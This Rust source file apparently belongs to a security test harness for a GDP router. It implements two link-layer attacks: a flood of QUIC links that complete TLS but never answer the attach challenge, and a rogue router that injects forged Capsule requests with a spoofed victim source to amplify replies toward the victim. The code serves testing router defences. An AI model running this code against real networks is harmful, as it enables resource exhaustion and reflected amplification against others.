//! Attacks on the link layer: links that never prove a name (1), and a
//! self-declared router that forges sources (2).

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use gdp_certs::tls::{self, PeerPolicy};
use gdp_certs::{Kind, Name};
use gdp_link::{LinkEvent, Transport, TransportConfig};
use gdp_proto::Encode;
use gdp_proto::capsule::CapsuleRequest;
use gdp_proto::control::{ControlMessage, RouterHello};
use tokio::task::JoinSet;

use super::{ATTACKER_IP, Sent, Stop, identity, total_len};

/// Handshakes under way at once in [`unproven_links`].
const HANDSHAKES_IN_FLIGHT: usize = 32;
/// Longest a handshake may take before it counts as refused.
const HANDSHAKE_TIMEOUT: Duration = Duration::from_secs(3);

/// Attack 1: keeps up to `max_open` QUIC links to the router that complete
/// TLS with a fresh client key and never answer the attach challenge (no
/// stream is ever read or written), opening a new one whenever one is
/// closed, until `stop`. Keep-alives keep each link from idling out.
///
/// Returns the links that completed their handshake (`links`), those the
/// router closed before the end (`links_closed`), the handshakes that
/// failed or timed out (`refused`) and the UDP bytes sent.
///
/// # Panics
///
/// When the client socket cannot be bound on [`ATTACKER_IP`].
pub async fn unproven_links(addr: SocketAddr, router: Name, max_open: usize, stop: Stop) -> Sent {
    let me = identity(Kind::Client, "unproven");
    let endpoint = quinn::Endpoint::client(SocketAddr::new(ATTACKER_IP, 0))
        .expect("binds a client socket on the attacker address");
    let mut config =
        tls::quinn_client_config(&me, PeerPolicy::Expect(router)).expect("client config");
    let mut transport = quinn::TransportConfig::default();
    transport.keep_alive_interval(Some(Duration::from_millis(300)));
    transport.max_idle_timeout(Some(
        quinn::IdleTimeout::try_from(Duration::from_secs(10)).expect("a small timeout"),
    ));
    config.transport_config(Arc::new(transport));

    let mut sent = Sent::default();
    let mut open: Vec<quinn::Connection> = Vec::new();
    let mut handshakes = JoinSet::new();
    while !stop.is_over() {
        // Links the router closed: counted, with their bytes.
        open.retain(|c| {
            if c.close_reason().is_some() {
                sent.links_closed += 1;
                sent.bytes += c.stats().udp_tx.bytes;
                false
            } else {
                true
            }
        });
        while open.len() + handshakes.len() < max_open && handshakes.len() < HANDSHAKES_IN_FLIGHT {
            let connecting = endpoint.connect_with(config.clone(), addr, tls::SERVER_NAME);
            handshakes.spawn(async move {
                let connecting = connecting.ok()?;
                tokio::time::timeout(HANDSHAKE_TIMEOUT, connecting)
                    .await
                    .ok()?
                    .ok()
            });
        }
        let next = tokio::time::timeout(Duration::from_millis(20), handshakes.join_next()).await;
        match next {
            Ok(Some(Ok(Some(conn)))) => {
                sent.links += 1;
                open.push(conn);
            }
            Ok(Some(_)) => sent.refused += 1,
            Ok(None) => tokio::time::sleep(Duration::from_millis(20)).await,
            Err(_) => {}
        }
    }
    handshakes.abort_all();
    for c in &open {
        if c.close_reason().is_some() {
            sent.links_closed += 1;
        }
        sent.bytes += c.stats().udp_tx.bytes;
        c.close(0u32.into(), b"done");
    }
    sent
}

/// Forged requests per batch in [`rogue_router`].
const ROGUE_BATCH: usize = 32;
/// Pause between batches of forged requests.
const ROGUE_PAUSE: Duration = Duration::from_millis(2);
/// How long the link interrupted by the attack's end is watched for the
/// router's close: the router's attach deadline (5 s by default) and a
/// margin.
const ROGUE_CLOSE_GRACE: Duration = Duration::from_secs(6);

/// Attack 2: a self-declared router (a fresh key whose metadata says
/// router, not in any directory, with no domain certificate) dials the
/// router, sends its hello and injects Capsule requests for `capsule` whose
/// source is `victim`: `Read {1}` and `Subscribe {from: 1}`, each of which
/// would make the capsule server answer toward the victim with more bytes
/// than the request. It dials again whenever its link is refused or
/// closed, until `stop`.
///
/// Returns the forged PDUs and their bytes, the links it got (`links`),
/// those the router closed (`links_closed`), dials the router refused
/// (`refused`) and the PDUs that arrived on its links (`received`).
///
/// # Panics
///
/// When its transport cannot be bound on [`ATTACKER_IP`].
pub async fn rogue_router(
    addr: SocketAddr,
    router: Name,
    victim: Name,
    capsule: Name,
    stop: Stop,
) -> Sent {
    let me = identity(Kind::Router, "rogue");
    let my_name = me.name();
    let hello = ControlMessage::RouterHello(
        RouterHello::new(me.metadata().clone(), None, Vec::new()).expect("no addresses"),
    );
    let mut config = TransportConfig::new(SocketAddr::new(ATTACKER_IP, 0));
    config.accept_incoming = false;
    config.keep_alive = Duration::from_millis(300);
    let (transport, mut events) = Transport::bind(me, config).expect("binds");
    let counter = tokio::spawn(async move {
        let mut received = 0u64;
        while let Some(event) = events.recv().await {
            if let LinkEvent::Pdus { pdus, .. } = event {
                received += pdus.len() as u64;
            }
        }
        received
    });

    let mut sent = Sent::default();
    let mut seq = 0u64;
    let forged = |seq: u64| -> Bytes {
        let request = if seq.is_multiple_of(2) {
            CapsuleRequest::Read { seqno: 1 }
        } else {
            CapsuleRequest::Subscribe { from: 1 }
        };
        request
            .to_pdu(capsule, victim, seq)
            .expect("a small request")
            .to_bytes()
    };
    while !stop.is_over() {
        let link = match stop.run(transport.dial(addr, router)).await {
            None => break,
            Some(Ok(link)) => link,
            Some(Err(_)) => {
                sent.refused += 1;
                stop.run(tokio::time::sleep(Duration::from_millis(100)))
                    .await;
                continue;
            }
        };
        sent.links += 1;
        seq += 1;
        let hello = hello
            .to_pdu(router, my_name, seq)
            .expect("a hello is within limits")
            .to_bytes();
        if link.send(hello).await.is_err() {
            sent.links_closed += 1;
            continue;
        }
        while !stop.is_over() && !link.is_closed() {
            let batch: Vec<Bytes> = (0..ROGUE_BATCH)
                .map(|_| {
                    seq += 1;
                    forged(seq)
                })
                .collect();
            let bytes = total_len(&batch);
            match stop.run(link.send_batch(batch)).await {
                Some(Ok(())) => {
                    sent.pdus += ROGUE_BATCH as u64;
                    sent.bytes += bytes;
                }
                Some(Err(_)) | None => break,
            }
            stop.run(tokio::time::sleep(ROGUE_PAUSE)).await;
        }
        // The link the attack's end interrupted gets the router's attach
        // deadline to be closed too, so that "stayed up" means the router
        // kept it, not that the attacker stopped looking.
        let deadline = tokio::time::Instant::now() + ROGUE_CLOSE_GRACE;
        while !link.is_closed() && tokio::time::Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        if link.is_closed() {
            sent.links_closed += 1;
        }
    }
    transport.shutdown("done").await;
    sent.received = counter.await.unwrap_or(0);
    sent
}
